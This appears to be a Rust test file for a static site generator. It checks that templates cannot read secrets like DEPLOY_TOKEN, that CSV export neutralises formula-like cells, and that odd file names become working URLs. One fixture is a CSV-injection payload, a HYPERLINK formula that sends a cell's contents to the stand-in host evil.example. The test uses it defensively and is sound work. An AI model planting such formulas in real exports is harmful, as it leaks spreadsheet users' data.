//! Nothing leaves the site by a side door: templates read only `ROADBOOK_*`
//! and `CI` from the environment, `milestones.csv` holds no live formulas, and
//! file names become URLs that work (slugged; two files on one URL are an error).

use crate::harness::{Site, CLEAN};

#[test]
fn get_env_refuses_variables_outside_roadbook_and_ci() {
    let site = Site::clean().file("templates/index.html", "{{ get_env(name=\"DEPLOY_TOKEN\") }}");
    let run = site.run_with_env(&["build"], &[("DEPLOY_TOKEN", "s3cret-token")]);
    run.failure(1)
        .stderr_has("get_env cannot read `DEPLOY_TOKEN`: templates see only variables named ROADBOOK_* and CI")
        .stderr_has("templates/index.html")
        .stderr_lacks("s3cret-token");
    assert!(!site.has_output("index.html"));
}

#[test]
fn get_env_reads_roadbook_variables_and_ci_and_defaults_for_others() {
    let template = "{{ get_env(name=\"ROADBOOK_EDITION\") }} {{ get_env(name=\"CI\") }} \
                    {{ get_env(name=\"DEPLOY_TOKEN\", default=\"hidden\") }}";
    let site = Site::clean().file("templates/index.html", template);
    let env = [("ROADBOOK_EDITION", "Q3"), ("CI", "true"), ("DEPLOY_TOKEN", "s3cret-token")];
    site.run_with_env(&["build"], &env).success();
    assert_eq!(site.output("index.html"), "Q3 true hidden");
}

#[test]
fn csv_cells_that_start_like_formulas_are_neutralised() {
    let title = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
    let roadmap = CLEAN
        .replace("title = \"Launch\"", &format!("title = '{title}'\nowner = \"@sales\""))
        .replace("area = \"scalability\"\n", "")
        .replace("title = \"Platform\"", "title = \"-1 for rollback\"\narea = \"+infra\"");
    let site = Site::clean().file("content/roadmap/main.toml", &roadmap);
    site.build().success();
    let csv = site.output("milestones.csv");
    let rows: Vec<&str> = csv.split("\r\n").collect();
    assert_eq!(
        rows[1],
        r#"launch,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",business,General,2027-Q1,2027-03-31,,,,planned,,'@sales,,,platform,,,,,Wait: 1 hour,milestones/launch/index.html"#
    );
    assert_eq!(rows[2], "platform,'-1 for rollback,technology,'+infra,2026-12,2026-12-31,,,,planned,,,,,,,launch,,,p95: 1 s,milestones/platform/index.html");
}

/// Narrative file names that break a URL or a file system path as they are.
const ODD_NAMES: &[(&str, &str)] = &[
    ("café", "narratives/café/"),
    ("a?b", "narratives/a-b/"),
    ("x#y", "narratives/x-y/"),
    ("With Space", "narratives/with-space/"),
    ("new\nline", "narratives/new-line/"),
    ("100%", "narratives/100/"),
];

#[test]
fn odd_file_names_are_slugged_into_urls_whose_links_resolve() {
    let mut site = Site::clean();
    for (name, _) in ODD_NAMES {
        site = site.file(
            &format!("content/narratives/{name}.md"),
            &format!("# Note {}\n\nOn [launch](@milestone:launch).\n", name.len()),
        );
    }
    let links: Vec<String> = ["café", "a?b", "With Space", "100%"]
        .iter()
        .map(|name| format!("[{}](@/narratives/{name}.md)", name.len()))
        .collect();
    let site = site.file("content/narratives/index-of-notes.md", &format!("# Notes\n\n{}\n", links.join(", ")));
    site.build().success();
    for (_, folder) in ODD_NAMES {
        assert!(site.has_output(&format!("{folder}index.html")), "no {folder}index.html");
    }
    let notes = site.output("narratives/index-of-notes/index.html");
    assert!(notes.contains("href=\"../../narratives/caf%C3%A9/index.html\""), "{notes}");
    assert!(notes.contains("href=\"../../narratives/a-b/index.html\""), "{notes}");
    assert_eq!(crate::links::broken_links(&site.path().join("public")), Vec::<String>::new());
    let sitemap = site.output("sitemap.xml");
    assert!(sitemap.contains("<loc>/narratives/caf%C3%A9/</loc>"), "{sitemap}");
    let json: serde_json::Value = serde_json::from_str(&site.output("roadmap.json")).unwrap();
    let urls: Vec<&str> = json["narratives"].as_array().unwrap().iter().filter_map(|n| n["url"].as_str()).collect();
    assert!(
        urls.contains(&"narratives/caf%C3%A9/index.html") && urls.contains(&"narratives/new-line/index.html"),
        "{urls:?}"
    );
}

#[test]
fn two_files_that_slug_to_one_url_are_an_error_naming_both() {
    let site =
        Site::clean().file("content/narratives/Road Map.md", "# A\n").file("content/narratives/road-map.md", "# B\n");
    site.build()
        .failure(1)
        .stderr_has("`content/narratives/Road Map.md` and `content/narratives/road-map.md` would both be written to `narratives/road-map/index.html`")
        .error_at("duplicate-id", "content/narratives/road-map.md:1:1");
    let site = Site::clean().file("content/narratives/???.md", "# A\n");
    site.build()
        .failure(1)
        .stderr_has("`content/narratives/???.md` has a name with no letter or digit to make its URL from; rename it");
}
